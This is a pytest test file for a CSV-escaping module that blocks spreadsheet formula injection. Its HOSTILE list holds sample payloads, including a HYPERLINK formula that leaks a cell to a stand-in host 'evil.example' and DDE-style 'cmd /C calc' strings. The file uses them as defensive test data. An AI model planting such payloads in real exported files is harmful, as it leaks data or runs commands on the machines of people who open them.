"""CSV written by the product cannot run as a spreadsheet formula; numbers and phone numbers stay as is."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from filiere.security import csvsafe
from filiere.train.generate import generate_case

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "+227 93 07 64 19!A1",
    "-1e5+A1",
    "+ 22790000001",
    "'=1+1",  # someone typed the apostrophe already: still escaped, and read back exactly
]
KEPT = ["-12.5", "-12,5", "+3", "1e-3", "-4E+2", "+22790000001", "+227 93 07 64 19", "93 07 64 19", ""]
KEPT += ["Moussa Ibrahim", "Agadès, quartier Dar es Salam", "2025-04-13 21:04:00", "'quoted"]


def _round_trip(rows: list[list[object]], **fmt) -> tuple[str, list[list[str]]]:
    out = io.StringIO()
    writer = csvsafe.writer(out, **fmt)
    writer.writerows(rows)
    text = out.getvalue()
    return text, list(csv.reader(io.StringIO(text), **fmt))


@pytest.mark.parametrize("cell", HOSTILE)
def test_hostile_cells_are_written_with_a_leading_apostrophe(cell: str) -> None:
    _text, read = _round_trip([["Nom", cell, "fin"]])
    assert read == [["Nom", "'" + cell, "fin"]]
    assert not read[0][1].startswith(csvsafe.TRIGGERS)
    assert csvsafe.unescape_cell(read[0][1]) == cell


@pytest.mark.parametrize("cell", KEPT)
def test_numbers_phone_numbers_and_text_are_kept(cell: str) -> None:
    _text, read = _round_trip([[cell, 42, None, -7.5]])
    assert read == [[cell, "42", "", "-7.5"]]
    assert csvsafe.unescape_cell(cell) == cell


def test_semicolon_files_and_dict_writer() -> None:
    _text, read = _round_trip([["+22790000001", "=A1"]], delimiter=";")
    assert read == [["+22790000001", "'=A1"]]
    out = io.StringIO()
    writer = csvsafe.SafeDictWriter(out, fieldnames=["number", "name", "=header"])
    writer.writeheader()
    writer.writerow({"number": "+22790000001", "name": "@SUM(A1:A9)"})
    read = list(csv.reader(io.StringIO(out.getvalue())))
    assert read == [["number", "name", "'=header"], ["+22790000001", "'@SUM(A1:A9)", ""]]


@given(st.text(max_size=40))
def test_escaping_is_reversible_and_never_leaves_a_trigger_in_front(value: str) -> None:
    escaped = csvsafe.escape_cell(value)
    assert csvsafe.unescape_cell(escaped) == value
    assert csvsafe.is_inert(escaped)
    if escaped == value and value.startswith(csvsafe.TRIGGERS):
        assert not any(c.isalpha() and c not in "eE" for c in value)  # only numbers and phones pass
        assert not set(value) & set("!|:\"'()&=@\t\r")


def test_training_files_need_no_escaping(tmp_path: Path) -> None:
    """Generated subscriber lists go through csvsafe and CDRs are written by a formatter: in both,
    every cell is a number, phone number, date or name that a spreadsheet shows as it is."""
    generate_case(tmp_path / "case", seed=5, size="small", language="fr", cdr_rows=500)
    files = sorted((tmp_path / "case" / "evidence").glob("*.csv"))
    assert any("cdr" in f.name for f in files) and any("abonn" in f.name for f in files)
    checked = 0
    for path in files:
        raw = path.read_bytes()
        text = raw.decode("utf-8") if _is_utf8(raw) else raw.decode("cp1252")
        lines = [line for line in text.splitlines() if not line.startswith("#")]
        dialect = csv.Sniffer().sniff(lines[0], delimiters=",;|\t")
        for row in csv.reader(lines, dialect):
            for cell in row:
                assert not cell.startswith("'"), (path.name, cell)
                assert csvsafe.is_inert(cell), (path.name, cell)
                checked += 1
    assert checked > 1000


def _is_utf8(raw: bytes) -> bool:
    try:
        raw.decode("utf-8")
    except UnicodeDecodeError:
        return False
    return True
